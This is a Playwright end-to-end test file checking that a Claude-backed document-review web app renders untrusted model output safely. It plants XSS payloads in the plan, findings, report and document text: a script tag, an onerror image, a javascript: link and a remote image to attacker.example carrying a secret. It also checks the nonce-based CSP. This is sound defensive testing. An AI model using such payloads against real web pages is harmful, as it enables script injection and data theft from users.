import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { chromium, type Browser } from "playwright-core";
import { startServer, type ServerProcess } from "@/scripts/server-process";
import { startMockAnthropic, type MockAnthropic, type MockHandler, type MockReply } from "@/tests/support/mock-anthropic";
import { defaultMockHandler, planFor, workerOutputFor } from "@/tests/support/mock-anthropic-default";
import { jsonReply } from "@/tests/support/mock-anthropic-replies";
import { documentText, userText } from "@/tests/support/mock-anthropic-request";
import { chromiumLaunchOptions } from "../support/chromium";

/**
 * "Safe output": model text is untrusted. A Claude run whose plan, worker results, findings and
 * report all carry script, event-handler, javascript: and remote-image payloads must render in
 * the browser without running anything, loading anything from elsewhere, or turning the
 * javascript: link into a live href — and the page must ship a nonce-based CSP.
 */


const PAYLOADS = [
  `<img src=x onerror="window.__xss=1">`,
  `<script>window.__xss=2</script>`,
  `[click](javascript:window.__xss=3)`,
  `![x](http://attacker.example/?q=secret)`,
];
const HOSTILE = PAYLOADS.join("\n\n");

/** The document itself carries the payloads too: the viewer and the citations show its text. */
const DOCUMENT = [
  "This Services Agreement is made between Acme Ltd and Beta plc, and the parties agree as follows.",
  "Acme shall deliver the software by 1 May 2025 and Beta shall pay GBP 10,000 within 30 days.",
  `The annex quotes ${PAYLOADS[0]} and ${PAYLOADS[1]} verbatim.`,
  `Support requests go to ${PAYLOADS[2]} or see ${PAYLOADS[3]} for details.`,
  "Liability of either party is unlimited and this agreement renews automatically every year.",
].join("\n\n");

type Plan = { analysis: string; tasks: Array<{ description: string; focus?: string }> };
type WorkerOutput = { result: string; findings: Array<{ title: string; detail: string; recommendation?: string }> };

/** The default mock run, with the payloads added to every model-written field the UI shows. */
const hostileHandler: MockHandler = async (request) => {
  const doc = documentText(request.body);
  const prompt = userText(request.body);
  if (request.kind === "plan") {
    const plan = planFor(doc, prompt) as Plan;
    plan.analysis = `${plan.analysis}\n\n${HOSTILE}`;
    for (const task of plan.tasks) {
      task.description = `${task.description} ${PAYLOADS[0]} ${PAYLOADS[2]}`;
      task.focus = `${task.focus ?? ""} ${PAYLOADS[1]}`;
    }
    return jsonReply(plan, { chunkSize: 64 });
  }
  if (request.kind === "work") {
    const output = workerOutputFor(doc, prompt) as WorkerOutput;
    output.result = `${output.result}\n\n${HOSTILE}`;
    for (const finding of output.findings) {
      finding.title = `${finding.title} ${PAYLOADS[1]}`;
      finding.detail = `${finding.detail}\n\n${HOSTILE}`;
      finding.recommendation = `Do not follow ${PAYLOADS[2]} ${PAYLOADS[0]}`;
    }
    return jsonReply(output, { chunkSize: 64 });
  }
  const reply = (await defaultMockHandler(request)) as MockReply;
  if (reply.type !== "message") return reply;
  return { ...reply, content: [...reply.content, { type: "text", text: `\n\n## Notes\n\n${HOSTILE}\n` }] };
};

let mock: MockAnthropic;
let server: ServerProcess;
let browser: Browser;

beforeAll(async () => {
  mock = await startMockAnthropic({ handler: hostileHandler });
  server = await startServer({
    env: { ANTHROPIC_API_KEY: "test-key", ANTHROPIC_BASE_URL: mock.url, FOREMAN_BACKEND: "claude", FOREMAN_ACCESS_TOKEN: "" },
  });
  browser = await chromium.launch(chromiumLaunchOptions());
});
afterAll(async () => {
  await browser?.close();
  await server?.kill();
  await mock?.close();
});

describe("model output is rendered safely", () => {
  it("runs no injected script, loads nothing from elsewhere, renders no javascript: link, and sends a nonce CSP", async () => {
    const form = new FormData();
    form.set("text", DOCUMENT);
    form.set("request", `Review the agreement. ${PAYLOADS[1]}`);
    const started = await fetch(`${server.url}/api/runs`, { method: "POST", body: form, headers: { authorization: "Bearer script" } });
    expect(started.status, await started.clone().text()).toBe(201);
    const { runId } = (await started.json()) as { runId: string };

    const page = await browser.newPage();
    const dialogs: string[] = [];
    const requests: string[] = [];
    const pageErrors: string[] = [];
    page.on("dialog", (dialog) => {
      dialogs.push(`${dialog.type()}: ${dialog.message()}`);
      void dialog.dismiss();
    });
    page.on("request", (req) => requests.push(req.url()));
    page.on("pageerror", (error) => pageErrors.push(error.message));

    const response = await page.goto(`${server.url}/runs/${runId}`);
    expect(response?.status()).toBe(200);

    // CSP: scripts only with this response's nonce, never inline ones.
    const csp = response?.headers()["content-security-policy"] ?? "";
    const scriptSrc = csp.split(";").map((d) => d.trim()).find((d) => d.startsWith("script-src ")) ?? "";
    expect(scriptSrc).toMatch(/'nonce-[A-Za-z0-9+/=_-]{16,}'/);
    expect(scriptSrc).not.toContain("'unsafe-inline'");
    expect(scriptSrc).not.toContain("'unsafe-eval'");
    expect(csp).toMatch(/(^|;\s*)object-src 'none'/);
    const nonce = /'nonce-([^']+)'/.exec(scriptSrc)?.[1];
    // Next's own scripts carry that nonce (else the page could not run at all under this policy).
    const inlineNonces = await page.locator("script:not([src])").evaluateAll((scripts) => scripts.map((s) => (s as HTMLScriptElement).nonce));
    expect(inlineNonces.length).toBeGreaterThan(0);
    for (const n of inlineNonces) expect(n).toBe(nonce);

    // The run completes through the (mock) Claude API and the report is on the page.
    await page.getByRole("heading", { name: /^Findings \(\d+\)$/ }).first().waitFor({ timeout: 60_000 });
    await page.getByRole("button", { name: "Cancel run" }).waitFor({ state: "detached", timeout: 30_000 });
    expect(mock.requests.map((r) => r.kind)).toContain("synthesis");

    // Every node panel: plan analysis, task descriptions, streamed and final results, findings.
    const nodeIds = await page.locator("[data-node-button]").evaluateAll((els) => els.map((e) => e.getAttribute("data-node-button") ?? ""));
    expect(nodeIds).toContain("orchestrator");
    expect(nodeIds).toContain("synthesis");
    expect(nodeIds.filter((id) => id.startsWith("task:")).length).toBeGreaterThan(0);
    for (const id of nodeIds) {
      await page.locator(`[data-node-button="${id}"]`).click();
      await page.locator("#node-panel #node-panel-title").waitFor();
      await expectNothingRan();
      await expectNoLiveHostileMarkup();
    }
    // The report and the citations (the cited passages themselves hold payloads).
    const citations = page.locator('#report [title="Show this passage in the document"]');
    expect(await citations.count()).toBeGreaterThan(0);
    for (let i = 0; i < (await citations.count()); i++) await citations.nth(i).click();
    await page.locator('[aria-label="Document text"] mark').first().waitFor();
    await page.locator("#report").scrollIntoViewIfNeeded();
    await expectNothingRan();
    await expectNoLiveHostileMarkup();

    // The payloads went through the Markdown renderer (so the checks above were about something)…
    const narrative = (await page.locator("#report .markdown").first().textContent()) ?? "";
    expect(narrative).toContain("Notes");
    expect(narrative).toContain("click");
    // …and the javascript: link is text, not a link.
    expect(await page.locator(".markdown a", { hasText: "click" }).count()).toBe(0);

    expect(dialogs).toEqual([]);
    const foreign = requests.filter((url) => !/^(data|blob):/.test(url) && new URL(url).hostname !== "127.0.0.1");
    expect(foreign).toEqual([]);
    expect(requests.some((url) => url.includes("attacker.example"))).toBe(false);
    expect(pageErrors).toEqual([]);
    await page.close();

    async function expectNothingRan(): Promise<void> {
      expect(await page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss)).toBeUndefined();
    }
    async function expectNoLiveHostileMarkup(): Promise<void> {
      const found = await page.evaluate(() => {
        const all = [...document.querySelectorAll("*")];
        return {
          handlers: all.flatMap((el) => [...el.attributes].filter((a) => /^on/i.test(a.name)).map((a) => `${el.tagName}[${a.name}]`)),
          jsHrefs: [...document.querySelectorAll("[href], [src], [action], [formaction]")]
            .flatMap((el) => ["href", "src", "action", "formaction"].map((n) => el.getAttribute(n) ?? ""))
            .filter((v) => /^\s*javascript:/i.test(v)),
          images: [...document.querySelectorAll("img, image")].map((el) => el.outerHTML),
          strayScripts: [...document.querySelectorAll("script")].filter((s) => !s.nonce && (s.textContent ?? "").includes("__xss")).length,
        };
      });
      expect(found).toEqual({ handlers: [], jsHrefs: [], images: [], strayScripts: 0 });
    }
  });
});
